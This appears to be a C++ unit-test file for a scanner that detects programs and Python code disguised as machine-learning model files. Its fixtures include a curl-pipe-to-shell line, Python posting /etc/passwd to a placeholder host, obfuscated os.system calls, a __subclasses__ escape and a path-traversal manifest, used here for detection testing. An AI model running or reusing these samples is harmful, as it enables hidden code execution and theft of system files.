// Programs that pose as models, and Python source inside of archives.
#include <gtest/gtest.h>

#include "scans.hpp"

namespace tocsin {
namespace {

using scan::Severity;
using tests::found;
using tests::scan_text;
using tests::told;
using namespace std::string_literals;

std::string padded(std::string bytes, std::size_t size = 200) {
  bytes.resize(std::max(size, bytes.size()), '\0');
  return bytes;
}
std::string pe() {
  auto bytes = padded("MZ"s, 400);
  bytes[0x3c] = '\x80';
  bytes.replace(0x80, 4, "PE\0\0"s);
  return bytes;
}

struct Case {
  const char* name;
  std::string bytes;
  const char* rule;
};
class Programs : public testing::TestWithParam<Case> {};

TEST_P(Programs, AreFound) {
  // Under the name of a model: a script of its own name lies there for people to run.
  const std::string& bytes = GetParam().bytes;
  const auto report =
      scan::models::scan_bytes("model.bin", std::as_bytes(std::span(bytes.data(), bytes.size())), tests::names());
  EXPECT_TRUE(found(report, GetParam().rule)) << told(report);
  EXPECT_GT(report.worst(), Severity::info) << told(report);
}

INSTANTIATE_TEST_SUITE_P(
    , Programs,
    testing::Values(
        Case{"elf",
             padded("\x7f"
                    "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"s),
             "not-a-model"},
        Case{"windows", pe(), "not-a-model"},
        Case{"mac", padded("\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x10\0\0\0"s), "not-a-model"},
        Case{"mac_for_two", padded("\xca\xfe\xba\xbe\0\0\0\x02"s), "not-a-model"},
        Case{"java", padded("\xca\xfe\xba\xbe\0\0\0\x37"s), "not-a-model"},
        Case{"wasm", padded("\0asm\1\0\0\0"s), "not-a-model"},
        Case{"shell", "#!/bin/sh\ncurl x | sh\n"s, "not-a-model"},
        Case{"batch", "@echo off\r\nstart x\r\n"s, "not-a-model"},
        Case{"compiled_python", "\xcb\x0d\x0d\x0a\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0\0\0\0"s, "not-a-model"},
        Case{"python_system", "import os\n\ndef handle(data, context):\n    os.system('id')\n", "source-code"},
        Case{"python_of_a_script", "#!/usr/bin/env python3\nimport os\nos.system('id')\n", "source-code"},
        Case{"python_alias", "import subprocess as s\nfrom os import popen as p\np('id')\n", "source-code"},
        Case{"python_star", "from os import *\nsystem('id')\n", "source-code"},
        Case{"python_exec", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n", "source-code"},
        Case{"python_later_import", "def f():\n    g.run(['id'])\n\nimport subprocess as g\n", "source-code"},
        Case{"python_getattr", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "source-code"},
        Case{"python_import_module", "import importlib\nimportlib.import_module('subprocess').run('id')\n",
             "source-code"},
        Case{"python_network",
             "import requests\nrequests.post('http://example.org', data=open('/etc/passwd').read())\n", "source-code"},
        Case{"python_in_one_line", "import os; os.system('id')", "source-code"},
        Case{"python_continued", "import \\\n os\nos \\\n .system('id')\n", "source-code"},
        Case{"python_subclasses", "x = ().__class__.__bases__[0].__subclasses__()\n", "source-code"},
        Case{"torchscript_file",
             "class Module(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> "
             "Tensor:\n    _0 = torch.from_file(\"/etc/passwd\", False, 10)\n    return x\n",
             "source-code"},
        Case{"manifest_out", R"({"runtime": "python", "model": {"modelName": "m", "handler": "../../x.py"}})",
             "archive-path"}),
    [](const testing::TestParamInfo<Case>& test) { return test.param.name; });

TEST(Scripts, PoseAsNothingUnderTheirOwnName) {
  const std::string_view text = "#!/bin/sh\ncp a b\n";
  const auto bytes = std::as_bytes(std::span(text.data(), text.size()));
  EXPECT_EQ(scan::models::scan_bytes("fetch.sh", bytes, tests::names()).worst(), Severity::info);
  EXPECT_EQ(scan::models::scan_bytes("model.bin", bytes, tests::names()).worst(), Severity::malicious);
}

scan::Report named(std::string_view name, std::string_view text) {
  return scan::models::scan_bytes(std::string(name), std::as_bytes(std::span(text.data(), text.size())),
                                  tests::names());
}

TEST(ProgramNames, ALibraryUnderItsOwnNamePosesAsNothing) {
  const auto elf = padded(
      "\x7f"
      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"s);
  for (const std::string_view name : {"build/libcustom_op.so", "libtorch.so.2", "tool.exe"})
    EXPECT_EQ(named(name, elf).worst(), Severity::info) << name;
  for (const std::string_view name : {"weights", "a.so/weights", "-"})
    EXPECT_EQ(named(name, elf).worst(), Severity::suspicious);
  EXPECT_EQ(named("pytorch_model.bin", elf).worst(), Severity::malicious);
  EXPECT_EQ(named("model.llamafile", padded("MZqFpD='"s)).worst(), Severity::suspicious);
}

TEST(PythonSource, AScriptOfTheProjectIsNoModel) {
  const std::string_view text = "import subprocess\nsubprocess.run(['make'])\n";
  EXPECT_EQ(named("project/train.py", text).worst(), Severity::info);
  EXPECT_EQ(named("project/train", text).worst(), Severity::suspicious);
}

TEST(PythonSource, WritesTemplatesWithoutBeingOne) {
  EXPECT_EQ(
      named("tools.py", "import os\nT = \"\"\"{% for m in messages %}{{ m.__code__ }}{% endfor %}\"\"\"\n").worst(),
      Severity::info);
}

TEST(PythonSource, HonestOnesAreSilent) {
  for (
      const std::string text : {
          "import os\nimport torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\n\nclass H(BaseHandler):\n "
          "   def initialize(self, context):\n"
          "        self.model = torch.jit.load(os.path.join('x', 'model.pt'))\n        self.model.eval()\n\n    def "
          "eval(self, requests):\n"
          "        requests.append(1)\n        return re.compile('x')\n",
          "class Module(Module):\n  __parameters__ = [\"weight\", ]\n  def forward(self: "
          "__torch__.torch.nn.modules.linear.Linear,\n    input: Tensor) -> Tensor:\n"
          "    weight = self.weight\n    return torch.linear(input, weight)\n",
          "# os.system('id')\nimport time\nx = \"subprocess.run('id'); exec('x')\"\n'''\nimport "
          "os\nos.system('id')\n'''\n",
          "A text about import os and os.system('id') and eval(x).\n",
          "# Model card\n\nThis model was made with\n```python\nimport requests\nrequests.get('x')\n```\n",
          R"({"runtime": "python", "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py:handle"}})",
      }) {
    const auto report = scan_text(text);
    EXPECT_LE(report.worst(), Severity::info) << text << "\n" << told(report);
  }
}

TEST(PythonSource, ManyOpenBracketsAreNoDeepCall) {
  std::string text = "import os\nx = ";
  for (int i = 0; i < 200'000; ++i) text += "getattr(";
  EXPECT_LE(scan_text(text).worst(), Severity::suspicious);
}

}  // namespace
}  // namespace tocsin
